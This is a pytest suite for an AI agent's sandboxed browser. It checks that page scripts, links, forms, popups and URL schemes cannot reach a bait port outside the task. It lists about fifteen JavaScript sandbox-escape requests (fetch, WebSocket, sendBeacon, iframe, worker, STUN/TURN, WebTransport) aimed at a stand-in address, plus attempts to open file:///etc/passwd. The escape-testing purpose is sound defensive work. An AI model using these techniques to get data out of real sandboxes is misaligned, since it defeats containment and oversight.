"""Attacks on the browser's only way out, against servers that would notice."""

import asyncio
from collections.abc import AsyncIterator

import pytest
import pytest_asyncio
from aiohttp import web

from agentgym_tools.browser.find import missing_browser

if missing_browser() is not None:
    pytest.skip(str(missing_browser()), allow_module_level=True)

from browser_windows import player

from agentgym_tools.browser.gateway import Gateway
from agentgym_tools.browser.pool import BrowserPool

pytestmark = pytest.mark.asyncio(loop_scope="module")


@pytest_asyncio.fixture(scope="module", loop_scope="module", name="pool")
async def open_pool() -> AsyncIterator[BrowserPool]:
    pool = BrowserPool()
    yield pool
    await pool.aclose()


class Bait(asyncio.DatagramProtocol):
    """A TCP and a UDP port outside of the task. Whatever reaches them has got out."""

    server: asyncio.Server
    transport: asyncio.DatagramTransport

    def __init__(self) -> None:
        self.reached: list[bytes] = []
        self.port = 0

    @classmethod
    async def lay(cls) -> "Bait":
        bait = cls()

        async def connected(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            bait.reached.append(await reader.read(100))
            writer.close()

        bait.server = await asyncio.start_server(connected, "127.0.0.1", 0)
        bait.port = bait.server.sockets[0].getsockname()[1]
        loop = asyncio.get_running_loop()
        bait.transport, _ = await loop.create_datagram_endpoint(
            lambda: bait, local_addr=("127.0.0.1", bait.port)
        )
        return bait

    def datagram_received(self, data: bytes, addr: object) -> None:
        self.reached.append(data)

    async def take_up(self) -> list[bytes]:
        self.transport.close()
        self.server.close()
        return self.reached


@pytest_asyncio.fixture(scope="module", loop_scope="module", name="bait")
async def lay_bait() -> AsyncIterator[Bait]:
    bait = await Bait.lay()
    yield bait
    assert await bait.take_up() == []


ATTACKS = {
    "fetch": "fetch('http://ADDRESS/fetch').catch(e => 0)",
    "fetch without cors": "fetch('http://ADDRESS/nocors', {mode: 'no-cors'}).catch(e => 0)",
    "image": "new Promise(done => { const i = new Image(); i.onload = i.onerror = done;"
    " i.src = 'http://ADDRESS/image' }).then(() => 0)",
    "https": "fetch('https://ADDRESS/secure').catch(e => 0)",
    "websocket": "new Promise(done => { const s = new WebSocket('ws://ADDRESS/socket');"
    " s.onclose = s.onerror = () => done(0) })",
    "secure websocket": "new Promise(done => { const s = new WebSocket('wss://ADDRESS/socket');"
    " s.onclose = s.onerror = () => done(0) })",
    "iframe": "new Promise(done => { const f = document.createElement('iframe');"
    " f.onload = f.onerror = () => done(0); f.src = 'http://ADDRESS/frame';"
    " document.body.append(f) })",
    "beacon": "(navigator.sendBeacon('http://ADDRESS/beacon', 'x'), 0)",
    "event source": "new Promise(done => { const s = new EventSource('http://ADDRESS/events');"
    " s.onerror = () => { s.close(); done(0) } })",
    "worker": "new Promise(done => { const w = new Worker(URL.createObjectURL(new Blob(["
    "\"fetch('http://ADDRESS/worker').catch(e => 0).then(() => postMessage(0))\"])));"
    " w.onmessage = () => done(0) })",
    "redirect": "fetch('/redirect').catch(e => 0).then(() => 0)",
    "style sheet": "new Promise(done => { const l = document.createElement('link');"
    " l.rel = 'stylesheet'; l.onload = l.onerror = () => done(0);"
    " l.href = 'http://ADDRESS/style'; document.head.append(l) })",
    "preconnect": "(document.head.insertAdjacentHTML('beforeend',"
    " '<link rel=preconnect href=http://ADDRESS><link rel=dns-prefetch href=//ADDRESS>'), 0)",
    "web transport": "(async () => { try { const t = new WebTransport('https://ADDRESS/');"
    " await t.ready } catch (e) {} return 0 })()",
    "stun": "(async () => { const p = new RTCPeerConnection({iceServers:"
    " [{urls: 'stun:ADDRESS'}, {urls: 'turn:ADDRESS?transport=tcp', username: 'a',"
    " credential: 'b'}]}); p.createDataChannel('x'); await p.setLocalDescription();"
    " await new Promise(done => { p.onicegatheringstatechange = () =>"
    " p.iceGatheringState === 'complete' && done(); setTimeout(done, 1500) }); return 0 })()",
}


RECORDED = set(ATTACKS) - {"preconnect", "web transport", "stun"}
"""The others ask for no page: a name is looked up, or a datagram sent, and both in vain."""


async def refused(gateway: Gateway) -> list[str]:
    """What was refused, once something was: a beacon is sent when the browser finds the time."""
    async with asyncio.timeout(10):
        while not gateway.blocked:
            await asyncio.sleep(0.01)
    return gateway.take_blocked()


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
async def test_a_page_reaches_nothing_but_the_task(
    pool: BrowserPool, bait: Bait, host: str
) -> None:
    address = f"{host}:{bait.port}"
    away = web.Response(status=302, headers={"Location": f"http://{address}/redirect"})
    async with player(pool, "<p>hello") as one:
        one.pages.texts = {**one.pages.texts, "/redirect": away}
        await one.open()
        for attack, code in ATTACKS.items():
            code = code.replace("ADDRESS", address)
            await one.script(f"Promise.resolve({code}).then(() => 0)")
            await one.window.gateway.quiet()
            if attack in RECORDED:
                addresses = await refused(one.window.gateway)
                assert any(address in found for found in addresses), (attack, addresses)
            assert bait.reached == [], attack
        assert [element.name for element in (await one.look()).elements][:1] == ["hello"]


ELSEWHERE = """<a href=http://ADDRESS/link>link</a>
<a href=http://ADDRESS/tab target=_blank>tab</a>
<form action=http://ADDRESS/form method=post><button>form</button></form>
<button onclick="window.open('http://ADDRESS/popup')">popup</button>
<button onclick="location = 'https://ADDRESS/secure'">secure</button>
<button onclick="location = 'data:text/html,<h1>data'">data</button>
<button onclick="location = 'file:///etc/passwd'">file</button>
<a href=http://ADDRESS/file.zip download>download</a>"""


async def test_no_click_leads_out(pool: BrowserPool, bait: Bait) -> None:
    address = f"127.0.0.1:{bait.port}"
    async with player(pool, ELSEWHERE.replace("ADDRESS", address)) as one:
        for name in ("link", "tab", "form", "popup", "secure", "data", "file", "download"):
            while len(one.window.tabs) > 1:
                await one.do("close_tab")
            view = await one.open()
            element = view.find("link", name) or view.find("button", name)
            assert element is not None
            seen = await one.see("click", id=element.id)
            text = " ".join(found.name for found in seen.elements)
            assert "root:" not in text
            if name in ("link", "tab", "form", "popup", "download"):
                assert "not part of the task" in text, (name, text)
            elif name != "secure":  # of which the browser says in its own words that it failed
                assert "link tab form" in text, (name, text)
            assert bait.reached == [], name


@pytest.mark.parametrize(
    "url",
    [
        "https://site.test/", "file:///etc/passwd", "javascript:alert(1)", "data:text/html,x",
        "chrome://version", "view-source:http://site.test/", "about:blank", "ws://site.test/",
        "http://[", "blob:http://site.test/1", "ftp://site.test/",
    ],
)  # fmt: skip
async def test_only_pages_of_the_web_can_be_opened(pool: BrowserPool, url: str) -> None:
    async with player(pool, "<p>home") as one:
        await one.open()
        outcome = await one.do("goto", url=url)
        assert outcome.error == "refused_address", outcome
        assert (await one.look()).url == "http://site.test/"


async def test_an_address_outside_of_the_task_shows_that_it_is(pool: BrowserPool) -> None:
    async with player(pool, "<p>home") as one:
        await one.open()
        view = await one.see("goto", url="http://127.0.0.1:4567/")
        assert "not part of the task" in view.elements[0].name
        blocked = set(one.window.gateway.take_blocked())
        assert blocked - {"http://127.0.0.1:4567/favicon.ico"} == {"http://127.0.0.1:4567/"}
        assert [element.name for element in (await one.see("back")).elements] == ["home"]


async def test_a_service_worker_is_not_installed(pool: BrowserPool) -> None:
    async with player(pool, "<p>home", worker="self.onfetch = () => 0") as one:
        await one.open()
        register = "navigator.serviceWorker?.register('/worker')"
        await one.script(f"Promise.race([{register}, new Promise(d => setTimeout(d, 300))])")
        assert await one.script("navigator.serviceWorker?.controller ?? null") is None


async def test_permissions_are_denied(pool: BrowserPool) -> None:
    async with player(pool, "<p>home") as one:
        await one.open()
        where = "navigator.geolocation.getCurrentPosition(() => done('yes'), () => done('no'))"
        asked = await one.script(
            f"new Promise(done => navigator.geolocation ? {where} : done('no'))"
        )
        assert asked == "no"
